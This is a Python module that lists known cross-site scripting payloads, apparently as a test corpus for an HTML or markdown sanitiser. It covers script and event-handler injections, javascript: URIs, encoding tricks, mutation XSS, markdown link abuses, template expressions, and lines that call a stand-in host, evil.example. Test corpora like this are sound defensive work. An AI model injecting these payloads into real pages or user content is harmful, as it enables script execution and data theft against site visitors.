# ruff: noqa: E501 - lines of payloads
"""Known attacks on what turns text into HTML: OWASP's and PortSwigger's lists, mutations (mXSS), markdown's own ways, templates."""

from __future__ import annotations

_LINES = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/xss src="//x"></script>
<script>alert(1)//
<<SCRIPT>alert(1);//<</SCRIPT>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
<IMG SRC="javascript:alert('XSS');">
<IMG SRC=JaVaScRiPt:alert('XSS')>
<IMG SRC=`javascript:alert("x")`>
<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>
<IMG SRC=# onmouseover="alert('xxs')">
<IMG onmouseover="alert('xxs')">
<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<IMG SRC="jav&#x09;ascript:alert('XSS');">
<IMG SRC=" &#14; javascript:alert('XSS');">
<img/src/onerror=alert(1)>
<img src=x onerror=alert`1`>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<img src="x` `<script>alert(1)</script>"` `>
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1)</script>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<table><caption><svg><title><table><caption></caption></table></title><img src=x onerror=alert(1)></svg></caption></table>
<p><table><td><svg></p><style><!--</style><img title="--><img src onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>
<template><s><template><s><img src=x onerror=alert(1)>X</s></template></s></template>
<select><template><img src=x onerror=alert(1)></template></select>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="javascript:alert(1)"></iframe>
<iframe/src="data:text/html,<svg onload=alert(1)>">
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<embed code=//evil.example allowscriptaccess=always>
<applet code=x></applet>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<base href="javascript:alert(1)//">
<style>@import'//evil.example/x.css';</style>
<style>*{background:url(//evil.example/?x)}</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="position:fixed;inset:0;z-index:9999">x</div>
<XSS STYLE="behavior: url(xss.htc);">
<body onload=alert(1)>
<body/onpageshow=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<video src=_ onloadstart=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<input autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit></form>
<isindex type=image src=1 onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<a href="javas&#99;ript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="//evil.example" target=_self onclick=alert(1)>x</a>
<a href="javascript:void(0)" onmouseenter=alert(1)>x</a>
<a ping=//evil.example href=/>x</a>
<x onclick=alert(1)>click</x>
<x contenteditable onblur=alert(1)>x</x>
<x/onpointerrawupdate=alert(1)>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<div onbeforeinput=alert(1) contenteditable>x</div>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>
<?php echo 1 ?><img src=x onerror=alert(1)>
[x](javascript:alert(1))
[x](javascript://www.example%0Aalert(1))
[x](JavaScript:alert`1`)
[x](  javascript:alert(1))
[x](javascript&#58;alert(1))
[x](\javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](<javascript:alert(1)>)
[x]: javascript:alert(1)
[a](https://a.example "x" onmouseover="alert(1))
[a](https://a.example'onmouseover='alert(1))
![x](javascript:alert(1))
![x](https://evil.example/"onerror="alert(1))
![x"onerror="alert(1)](https://evil.example/x.png)
<javascript:alert(1)>
<https://a.example/"onmouseover="alert(1)>
https://a.example/"onmouseover="alert(1)
https://a.example/<script>alert(1)</script>
`<img src=x onerror=alert(1)>`
``` "onmouseover="alert(1)
~~~<script>
| <img src=x onerror=alert(1)> | a |
- [ ] <img src=x onerror=alert(1)>
> <svg onload=alert(1)>
# <svg onload=alert(1)>
**<svg onload=alert(1)>**
~~<svg/onload=alert(1)>~~
__proto__[<img src=x onerror=alert(1)>]
{{constructor.constructor('alert(1)')()}}
{{_openBlock.constructor('alert(1)')()}}
${alert(1)}
<%= 7*7 %>
<div v-html="'<img src=x onerror=alert(1)>'"></div>
<div :innerHTML="'<img src=x onerror=alert(1)>'"></div>
<component is=script>alert(1)</component>
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\x3cscript\x3ealert(1)\x3c/script\x3e
"autofocus onfocus=alert(1) x="
' onmouseover='alert(1)
" innerHTML="<img src=x onerror=alert(1)>
'''
PAYLOADS = _LINES.strip().splitlines()
PAYLOADS += [
    "<img\x00 src=x onerror=alert(1)>", "<\x00script>alert(1)</script>", "<img\x0csrc=x\x0conerror=alert(1)>", "<img/\x0bonerror=alert(1)>",
    "[x](java\nscript:alert(1))", "[x](java\tscript:alert(1))", "[x](\x01javascript:alert(1))", "[x](\u2028javascript:alert(1))",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\u017fcript>alert(1)</\u017fcript>", "<a\u200b href=javascript:alert(1)>x</a>",
    "```html\n</code></pre><img src=x onerror=alert(1)>\n```", "| a |\n|-|\n| <svg/onload=alert(1)> |", "[x][y]\n\n[y]: javascript:alert(1)",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07", "\x1b[31m<img src=x onerror=alert(1)>\x1b[0m",
]  # fmt: skip
